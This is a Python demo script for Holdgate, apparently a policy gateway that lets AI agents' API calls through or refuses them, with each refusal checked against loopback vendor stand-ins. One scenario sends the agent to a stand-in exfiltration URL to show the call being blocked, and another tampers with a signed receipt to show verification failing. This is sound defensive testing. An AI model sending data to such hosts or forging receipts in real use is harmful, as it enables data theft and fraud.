"""The demonstration: what an agent does, what it is told, and what the vendor saw of it.

Everything is real but the vendors: `holdgate run` in a process of its own, the published client libraries in
theirs, receipts verified by `holdgate verify`, the log by `holdgate log audit`. The vendors are stand-ins on
loopback that count every connection and byte. Nothing leaves the machine and nothing outside a temporary
folder is written.

Invariants (tests/test_demo.py):
  V2  tell() is True only if every check held, and every part of the story was told.
  V3  A refusal holds only if the vendor's recorder saw no connection and no byte.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from ..keys import b64url, unb64url
from .clients import STRIPE_BUNDLE
from .instance import Instance
from .recorder import Counts
from .standins import StandIns

__all__ = ["Check", "Story", "tell"]

type Json = dict[str, Any]

CLIENTS: Final = ("stripe", "s3", "slack", "fhir")
_SLOW_S: Final = 0.8
_COMMAND_S: Final = 60
_BOLD, _GREEN, _RED, _DIM, _PLAIN = "\033[1m", "\033[32m", "\033[31m", "\033[2m", "\033[0m"


@dataclass(frozen=True, slots=True, kw_only=True)
class Check:
    name: str
    held: bool


class Client:
    """One child process with one client library in it."""

    def __init__(self, vendor: str, env: dict[str, str]) -> None:
        self._process = subprocess.Popen(  # noqa: S603
            [sys.executable, "-m", "holdgate.demo.clients", vendor],
            env=env,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )

    def introduce(self) -> str:
        """The library and its version; asked once, before the first order."""
        library: str = self._read()["library"]
        return library

    def ask(self, order: Json) -> list[Json]:
        if self._process.stdin is None:
            raise RuntimeError("a client without input")
        self._process.stdin.write(json.dumps(order) + "\n")
        self._process.stdin.flush()
        answers: list[Json] = self._read()
        return answers

    def close(self) -> None:
        self._process.communicate(timeout=_COMMAND_S)

    def _read(self) -> Any:
        line = self._process.stdout.readline() if self._process.stdout else ""
        if not line:
            raise RuntimeError(f"a client process ended with exit code {self._process.wait()}")
        return json.loads(line)


@dataclass(slots=True, kw_only=True)
class Story:
    """The cast, and what was checked so far."""

    gate: Instance
    vendors: StandIns
    clients: dict[str, Client]
    checks: list[Check] = field(default_factory=list)
    colour: bool = False

    def say(self, text: str = "") -> None:
        print(text, flush=True)

    def paint(self, code: str, text: str) -> str:
        return f"{code}{text}{_PLAIN}" if self.colour else text

    def title(self, text: str) -> None:
        self.say(f"\n{self.paint(_BOLD, text)}")

    def check(self, name: str, held: bool, detail: str = "") -> None:
        self.checks.append(Check(name=name, held=held))
        mark = self.paint(_GREEN, "ok    ") if held else self.paint(_RED, "FAILED")
        self.say(f"  {mark} {name}" + (f": {detail}" if detail else ""))

    def call(self, vendor: str, **order: Any) -> tuple[list[Json], Counts]:
        """Let a client make its call; what it saw, and what the vendor saw."""
        before = self.vendors.counts(vendor)
        answers = self.clients[vendor].ask(order)
        for answer in answers:
            self.say(f"  agent  {answer['raised'] or answer['value']}"[:300])
            shown = re.sub(r'(policy="sha256:.{8})[^"]*', r"\1...", answer["decision"])
            self.say(self.paint(_DIM, f"         Holdgate-Decision: {shown}"))
        return answers, self.vendors.counts(vendor) - before

    def run(self, *words: str) -> subprocess.CompletedProcess[str]:
        """One holdgate command, as an operator would type it."""
        shown = " ".join(word if len(word) < 60 else word[:57] + "..." for word in words)
        self.say(self.paint(_DIM, f"  $ holdgate {shown}"))
        return subprocess.run(  # noqa: S603
            self.gate.command(*words), capture_output=True, text=True, timeout=_COMMAND_S, check=False
        )

    def refused(self, name: str, answer: Json, outcome: str, reason: str, saw: Counts) -> None:
        """A refusal holds when the library raised, our reason is in it, and the vendor saw nothing at all."""
        told = answer["decision"].startswith(outcome) and f"reason={reason}" in answer["decision"]
        self.check(f"{name}: {outcome} {reason}", told and bool(answer["raised"]))
        detail = f"{saw.connections} connections, {saw.received_bytes} bytes"
        self.check(f"{name}: the vendor saw nothing", saw.nothing, detail)

    def permitted(self, name: str, answer: Json, saw: Counts, *, done: bool) -> None:
        self.check(f"{name}: PERMIT", answer["decision"].startswith("PERMIT") and not answer["raised"])
        self.check(f"{name}: the vendor did it, once", done and saw.requests == 1, f"{saw.requests} request")


def receipt_id(answer: Json) -> str:
    found = re.search(r'\bid="([^"]+)"', answer["decision"])
    return found[1] if found else ""


# --- the parts ---


def payments(story: Story) -> None:
    stripe = story.vendors.stripe
    intent = stripe.charged(500_000)
    story.title("1. An agent refunds 12.00 with stripe-python: policy stripe-refunds permits up to 100.00")
    answers, saw = story.call("stripe", intent=intent, amount=1200, key="order-1")
    amounts = [refund["amount"] for refund in stripe.of_kind("refund")]
    story.permitted("stripe refund", answers[0], saw, done=amounts == [1200])

    story.title("2. The same agent refunds 2000.00: the policy says no")
    answers, saw = story.call("stripe", intent=intent, amount=200_000, key="order-2")
    story.refused("stripe large refund", answers[0], "DENY", "deny_rule", saw)


def retries(story: Story) -> None:
    stripe = story.vendors.stripe
    intent = stripe.charged(50_000)
    before = len(stripe.of_kind("refund"))
    story.title("3. Stripe is slow; the agent loses patience and sends the same Idempotency-Key again")
    stripe.delay_s = _SLOW_S
    twins, saw = story.call("stripe", intent=intent, amount=700, key="order-3", apart_s=_SLOW_S / 4)
    stripe.delay_s = 0.0
    first, second = (receipt_id(answer) for answer in twins)
    story.check("retry in flight: both got the same receipt", bool(first) and first == second, first)
    story.check("retry in flight: one request at the vendor", saw.requests == 1, f"{saw.requests} request")
    story.title(
        "4. It asks once more, later: a new permit that names the first; Stripe answers from its own store"
    )
    answers, _ = story.call("stripe", intent=intent, amount=700, key="order-3")
    shown = json.loads(
        story.run("receipts", "show", receipt_id(answers[0]) or "none", "--json").stdout or "{}"
    )
    of = shown.get("receipt", {}).get("replay_of", "")
    story.check("late retry: its receipt names the first one", bool(of) and of == first, f"replay_of {of}")
    story.check("late retry: refunded once", len(stripe.of_kind("refund")) == before + 1)
    story.title("5. The same key with another amount is not a retry")
    answers, saw = story.call("stripe", intent=intent, amount=800, key="order-3")
    story.refused("reused key", answers[0], "DENY", "idempotency_key_reused", saw)


def other_vendors(story: Story) -> None:
    vendors = story.vendors
    story.title("6. boto3 writes a report, then tries to delete one outside tmp/")
    answers, saw = story.call("s3", do="put", key="2026/q4.csv", body="a,b\n1,2\n")
    stored = vendors.s3.objects.get(("acme-reports", "2026/q4.csv"))
    story.permitted("s3 put", answers[0], saw, done=stored == b"a,b\n1,2\n")
    answers, saw = story.call("s3", do="delete", key="2026/q4.csv")
    story.refused("s3 delete", answers[0], "SILENCE", "no_rule_matched", saw)

    story.title("7. slack_sdk posts to a channel, then calls everybody")
    answers, saw = story.call("slack", channel="C0000000002", text="Refund for order 1 is done.")
    story.permitted("slack post", answers[0], saw, done=len(vendors.slack.messages) == 1)
    answers, saw = story.call("slack", channel="C0000000002", text="<!channel> look at this!")
    story.refused("slack broadcast", answers[0], "DENY", "deny_rule", saw)

    story.title("8. A FHIR client adds an observation, then tries to void one")
    note = {"resourceType": "Observation", "status": "final", "subject": {"reference": "Patient/p1"}}
    answers, saw = story.call("fhir", resource=note)
    story.permitted("fhir create", answers[0], saw, done=len(vendors.fhir.resources) == 1)
    answers, saw = story.call("fhir", resource=note | {"status": "entered-in-error"})
    story.refused("fhir void", answers[0], "DENY", "deny_rule", saw)


def unknown_destination(story: Story) -> None:
    story.title("9. The agent turns to a host that no surface map names")
    before = {name: story.vendors.counts(name) for name in story.vendors.ports}
    answers, saw = story.call("fhir", url="https://exfil.example.net/upload?data=everything")
    story.refused("unknown host", answers[0], "SILENCE", "unknown_destination", saw)
    after = {name: story.vendors.counts(name) for name in story.vendors.ports}
    story.check("unknown host: no vendor saw anything", before == after)


def evidence(story: Story) -> None:
    story.title(
        "10. Evidence: the receipt of the first refund verifies offline; with one digit changed it does not"
    )
    listed = json.loads(story.run("receipts", "list", "--limit", "200", "--json").stdout)["receipts"]
    refund = next(row for row in reversed(listed) if row["receipt"].get("outcome") == "PERMIT")
    file = story.gate.folder / "receipt.jws"
    file.write_text(refund["jws"])
    good = story.run("verify", "--require-permit", str(file))
    story.check("the receipt verifies", good.returncode == 0, good.stdout.strip())
    header, payload, signature = refund["jws"].encode().split(b".")
    forged = unb64url(payload).replace(b'"amount":1200', b'"amount":9200')
    file.write_bytes(b".".join((header, b64url(forged), signature)))
    bad = story.run("verify", str(file))
    changed = forged != unb64url(payload)
    story.check("a tampered receipt does not", changed and bad.returncode == 1, bad.stdout.strip()[-80:])

    story.title("11. The log: every receipt, signature, claim and outcome, against the signed checkpoint")
    audit = story.run("log", "audit")
    for line in audit.stdout.splitlines():
        story.say(f"  {line}")
    story.check("the log is clean", audit.returncode == 0)
    silent = [row for row in listed if row["receipt"].get("outcome") in ("DENY", "SILENCE")]
    story.check(
        "every refusal has a receipt", len(silent) >= 6, f"{len(silent)} refusals, {len(listed)} receipts"
    )


PARTS: Final[tuple[Callable[[Story], None], ...]] = (
    payments,
    retries,
    other_vendors,
    unknown_destination,
    evidence,
)


def tell(*, keep: bool = False) -> bool:
    """Tell the whole story on standard output; True when everything held."""
    folder = Path(tempfile.mkdtemp(prefix="holdgate-demo-"))
    colour = sys.stdout.isatty() and "NO_COLOR" not in os.environ
    try:
        with contextlib.ExitStack() as stage:
            vendors = stage.enter_context(StandIns())
            gate = stage.enter_context(Instance(folder, connect_to=vendors.connect_to()))
            env = gate.client_env() | {STRIPE_BUNDLE: _stripe_bundle(gate)}
            clients = {name: stage.enter_context(contextlib.closing(Client(name, env))) for name in CLIENTS}
            story = Story(gate=gate, vendors=vendors, clients=clients, colour=colour)
            story.say(f"Holdgate at {gate.proxy}, in {folder}; vendors are stand-ins on loopback")
            story.say("clients: " + ", ".join(client.introduce() for client in clients.values()))
            for part in PARTS:
                _told(story, part)
            return _summary(story)
    finally:
        if keep:
            print(f"kept: {folder}")
        else:
            shutil.rmtree(folder, ignore_errors=True)


def _told(story: Story, part: Callable[[Story], None]) -> None:
    try:
        part(story)
    except Exception as error:  # noqa: BLE001 - a part that breaks off has not held; the others are still told
        story.check(f"{part.__name__} was told to its end", False, f"{type(error).__name__}: {error}")


def _stripe_bundle(gate: Instance) -> str:
    """A copy of the bundle that stripe-python carries, with our CA added by `holdgate trust --install`."""
    try:
        import stripe
    except ImportError:
        return ""
    copy = gate.folder / "stripe-ca-certificates.crt"
    shutil.copyfile(Path(stripe.__file__).parent / "data" / "ca-certificates.crt", copy)
    subprocess.run(  # noqa: S603
        gate.command("trust", "--install", str(copy)), check=True, capture_output=True, timeout=_COMMAND_S
    )
    return str(copy)


def _summary(story: Story) -> bool:
    story.title("Summary")
    story.say(f"  {'VENDOR':<8} {'CONNECTIONS':>11} {'REQUESTS':>9} {'BYTES':>7}")
    for vendor in story.clients:
        saw = story.vendors.counts(vendor)
        story.say(f"  {vendor:<8} {saw.connections:>11} {saw.requests:>9} {saw.received_bytes:>7}")
    story.say()
    failed = [check for check in story.checks if not check.held]
    for check in failed:
        story.say(f"  {story.paint(_RED, 'FAILED')} {check.name}")
    held = len(story.checks) - len(failed)
    story.say(f"  {held} of {len(story.checks)} checks held")
    return bool(story.checks) and not failed
